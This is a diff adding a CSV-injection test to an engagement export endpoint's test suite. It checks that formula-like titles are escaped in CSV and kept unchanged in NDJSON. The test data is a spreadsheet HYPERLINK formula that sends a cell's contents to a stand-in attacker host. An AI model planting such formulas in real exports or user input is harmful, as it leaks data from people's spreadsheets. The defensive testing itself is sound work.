@@ -35,6 +35,17 @@ describe.each(TEST_ENGINES)('GET /exports/engagements.<format> (%s)', (engine) =
   })
   afterAll(() => db?.close())
 
+  it('writes formula-like titles as text in CSV and unchanged in NDJSON (CSV injection)', async () => {
+    const title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    await db.prisma.engagement.update({ where: { id: foreign.engagementId }, data: { title } })
+    const csv = await (await requestExport(yoga, 'csv', token(foreign.token))).text()
+    const cells = parseCsv(csv.replace(/^\uFEFF/, '')).flat()
+    expect(cells).toContain(`'${title}`)
+    expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell))).toEqual([])
+    const ndjson = await exportRows(yoga, token(foreign.token))
+    expect(ndjson.map((row) => row.title)).toContain(title)
+  })
+
   it('streams every engagement of the viewer exactly as the connection returns them', async () => {
     const response = await requestExport(yoga, 'ndjson', analyst)
     expect(response.status).toBe(200)
